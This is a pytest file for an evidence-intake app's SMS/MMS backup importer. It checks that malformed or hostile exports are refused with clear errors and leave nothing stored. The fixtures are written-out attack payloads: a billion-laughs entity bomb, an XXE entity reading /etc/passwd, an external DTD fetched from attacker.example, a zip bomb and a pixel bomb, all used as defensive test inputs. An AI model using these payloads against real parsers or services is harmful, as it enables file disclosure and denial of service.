"""Hostile or broken exports: a clear error, and nothing kept — no event, no item, no file."""

import io
import sqlite3
import tempfile
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from evidence.events.models import Event
from evidence.imports.models import Import
from evidence.intake.models import EvidenceItem
from tests import samples
from tests.conftest import import_export, stored_files
from tests.exports import mms, sms, sms_xml

WHEN = datetime(2026, 5, 1, 23, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
GOOD = sms(WHEN, 1, "13800138000", "正常短信")
HEADER = b"<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n"


def _assert_nothing_kept(case, media_root):
    assert not Event.objects.filter(case=case).exists()
    assert not EvidenceItem.objects.filter(case=case).exists()
    assert stored_files(media_root) == []


def _failed(api, case, data, name="sms.xml"):
    response, job = import_export(api, case, data, name=name)
    assert response.status_code == 202, response.json()
    assert job["status"] == "failed", job
    assert job["counts"]["messages"] == 0
    [error] = job["errors"]
    return error


BILLION_LAUGHS = HEADER + b"""<!DOCTYPE smses [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<smses count="1"><sms address="1" date="1777648205000" type="1" body="&lol9;" /></smses>
"""
EXTERNAL_ENTITY = HEADER + b"""<!DOCTYPE smses [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<smses count="1"><sms address="1" date="1777648205000" type="1" body="&secret;" /></smses>
"""
EXTERNAL_DTD = HEADER + b"""<!DOCTYPE smses SYSTEM "http://attacker.example/smses.dtd">
<smses count="1"><sms address="1" date="1777648205000" type="1" body="hi" /></smses>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "entity", "dtd"])
def test_it_refuses_dtds_and_entities(api, case, media_root, data):
    error = _failed(api, case, data)
    assert error["code"] == "xml_dtd"
    assert "DTD" in error["detail"]
    _assert_nothing_kept(case, media_root)


def test_it_refuses_deep_nesting(api, case, media_root):
    data = HEADER + b"<smses>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</smses>"
    assert _failed(api, case, data)["code"] == "xml_too_deep"
    _assert_nothing_kept(case, media_root)


@pytest.mark.parametrize("poison", [b"\xff\xfe\xfa", b"\x00"], ids=["invalid-utf8", "nul"])
def test_it_refuses_invalid_bytes_and_names_the_line(api, case, media_root, poison):
    data = sms_xml(GOOD, GOOD.replace("正常短信", "坏X"))
    data = data.replace("坏X".encode(), poison)
    error = _failed(api, case, data)
    assert error["code"] == "xml_malformed"
    assert error["params"]["line"] == 6
    _assert_nothing_kept(case, media_root)


def test_it_refuses_a_ten_mebibyte_line(api, case, media_root):
    data = sms_xml(GOOD, sms(WHEN, 1, "13800138000", "A" * (10 << 20)))
    error = _failed(api, case, data)
    assert error["code"] == "record_too_large"
    assert error["params"]["size"] == 10 << 20
    text = HEADER + b"<smses>" + b"x" * (10 << 20) + b"</smses>"
    assert _failed(api, case, text)["code"] == "line_too_long"
    _assert_nothing_kept(case, media_root)


def test_it_keeps_complete_records_of_a_truncated_file_and_says_what_was_dropped(api, case):
    data = sms_xml(GOOD, GOOD.replace("正常短信", "第二条"), GOOD.replace("正常短信", "被截断的第三条"))
    cut = data[: data.index("被截断".encode())]
    _, job = import_export(api, case, cut)
    assert job["status"] == "done"
    assert job["counts"]["messages"] == 2
    warning, count = job["warnings"]
    assert warning["code"] == "truncated" and warning["params"]["count"] == 1
    assert "1 incomplete record(s)" in warning["detail"]
    # The app wrote count="3" in the root; the cut file holds two.
    assert (count["code"], count["params"]["declared"], count["params"]["found"]) == ("count_mismatch", 3, 2)


def test_it_fails_a_file_cut_before_any_record(api, case, media_root):
    data = sms_xml(GOOD)
    assert _failed(api, case, data[: data.index(b"<sms ") + 4])["code"] == "xml_malformed"
    _assert_nothing_kept(case, media_root)


def test_it_refuses_a_decompression_bomb_inside_an_mms(api, case, media_root):
    data = sms_xml(GOOD, mms(WHEN, 1, "13800138000", "炸弹", picture=samples.png_pixel_bomb()))
    error = _failed(api, case, data)
    assert error["code"] == "attachment_too_large"
    assert "line 6, <mms> 1" in error["detail"]
    _assert_nothing_kept(case, media_root)


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("sms.xml", b"0" * (200 << 20))
    return buffer.getvalue()


def _sqlite_database() -> bytes:
    """What an iPhone backup's CallHistory.storedata is: a Core Data SQLite database."""
    with tempfile.TemporaryDirectory() as folder:
        path = f"{folder}/CallHistory.storedata"
        with sqlite3.connect(path) as database:
            database.execute("CREATE TABLE ZCALLRECORD (Z_PK INTEGER PRIMARY KEY, ZADDRESS BLOB, ZDATE TIMESTAMP)")
            database.execute("INSERT INTO ZCALLRECORD VALUES (1, x'3133383030313338303030', 799999999.0)")
        with open(path, "rb") as file:
            return file.read()


@pytest.mark.parametrize(
    ("data", "name", "seen"),
    [
        (_zip_bomb(), "sms.zip", "Zip archive"),
        (b"MIUI BAK\x00\x02" + bytes(range(256)) * 8, "com.android.mms.bak", "data"),
        (_sqlite_database(), "CallHistory.storedata", "SQLite"),
        (HEADER + b"<html><body>hi</body></html>", "sms.xml", "root <html>"),
        (b"", "sms.xml", None),
    ],
    ids=["zip-bomb", "xiaomi-bak", "ios-call-history", "wrong-root", "empty"],
)
def test_it_refuses_what_it_cannot_read_and_names_the_formats_it_reads(api, case, media_root, data, name, seen):
    response, _ = import_export(api, case, data, name=name)
    if seen is None:
        assert (response.status_code, response.json()["error"]) == (400, "empty_file")
    else:
        assert response.status_code == 415
        body = response.json()
        assert body["error"] == "unsupported_export"
        assert seen in body["detail"]
        assert "SMS Backup & Restore" in body["detail"]
    assert not Import.objects.exists()
    _assert_nothing_kept(case, media_root)


def test_it_explains_a_failure_in_chinese(api, case):
    _, job = import_export(api, case, BILLION_LAUGHS, language="zh-hans")
    assert "DTD" in job["errors"][0]["detail"]
    assert job["errors"][0]["detail"] != "The file declares a DTD or entities (line 2); exports never do, so it is refused."
